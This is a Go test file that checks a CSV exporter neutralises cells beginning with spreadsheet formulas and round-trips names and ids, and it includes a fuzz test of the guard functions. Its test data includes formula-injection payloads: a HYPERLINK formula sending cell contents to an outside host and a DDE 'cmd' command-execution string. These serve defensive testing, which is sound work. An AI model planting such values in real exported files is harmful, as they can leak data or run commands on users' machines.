package export

import (
	"bytes"
	"context"
	"slices"
	"strconv"
	"strings"
	"testing"

	"gonum.org/v1/gonum/mat"

	"ppca/core/dataset"
	"ppca/core/dataset/input"
	"ppca/core/dataset/internal/csvtext"
)

// No text in a written table begins a formula, and names and ids survive writing and
// reading.
func TestWrittenTablesHoldNoFormula(t *testing.T) {
	names := []string{"=HYPERLINK(\"http://example.com/?\"&A1)", "+a", "-b", "@c", "'=d", "plain"}
	ids := []string{"=cmd|' /C calc'!A0", "-2+3", "\t=1", "''@x"}
	r := Result{IDs: ids, ThetaName: "=θ", Theta: []float64{-1, 2, 3, -4}, Names: names, X: mat.NewDense(4, 6, slices.Repeat([]float64{-1.5, 2}, 12))}
	var file bytes.Buffer
	if err := r.Write(context.Background(), &file); err != nil {
		t.Fatal(err)
	}
	s := csvtext.NewScanner(strings.NewReader(file.String()), ',')
	for row := 0; ; row++ {
		more, err := s.Next()
		if err != nil {
			t.Fatal(err)
		}
		if !more {
			break
		}
		for j, cell := range s.Cells {
			text := row == 0 || j == 0 // the header, the ids
			if text && csvtext.IsFormula(string(cell)) {
				t.Errorf("row %d, column %d begins a formula: %q", row, j, cell)
			}
		}
	}
	set, err := input.Read(context.Background(), []dataset.File{{Name: "a.csv", Data: file.Bytes()}}, dataset.Options{Theta: "=θ", ID: "id"})
	if err != nil {
		t.Fatalf("%v in\n%s", err, file.String())
	}
	if !slices.Equal(set.Names, names) || !slices.Equal(set.IDs, ids) || set.ThetaName != "=θ" {
		t.Errorf("%q, %q and %q came back from\n%s", set.Names, set.IDs, set.ThetaName, file.String())
	}
}

// FuzzGuarded checks that no written text begins a formula, and that every text survives
// writing and reading, alone and as a cell of a table.
func FuzzGuarded(f *testing.F) {
	for _, text := range []string{"", "'", "=1+1", "''-1", "-1e3", "a,b", "\"=a\"", "\t@x", "θ"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		written := csvtext.Guard(text)
		if _, err := strconv.ParseFloat(written, 64); err != nil && csvtext.IsFormula(written) {
			t.Fatalf("%q is written %q, a formula", text, written)
		}
		if back := csvtext.Unguard(written); back != text {
			t.Fatalf("%q is written %q and read %q", text, written, back)
		}
		if strings.ContainsAny(text, "\r\n") || strings.TrimSpace(text) != text || text == "" {
			return // the reader of tables trims cells
		}
		r := Result{Theta: []float64{1, 2}, ThetaName: "theta", Names: []string{text}, X: mat.NewDense(2, 1, []float64{3, 4})}
		var file bytes.Buffer
		if err := r.Write(t.Context(), &file); err != nil {
			t.Fatal(err)
		}
		s := csvtext.NewScanner(&file, ',')
		if more, err := s.Next(); err != nil || !more || len(s.Cells) != 2 || csvtext.Unguard(string(s.Cells[1])) != text {
			t.Fatalf("the column %q comes back as %q (%v)", text, s.Cells, err)
		}
	})
}
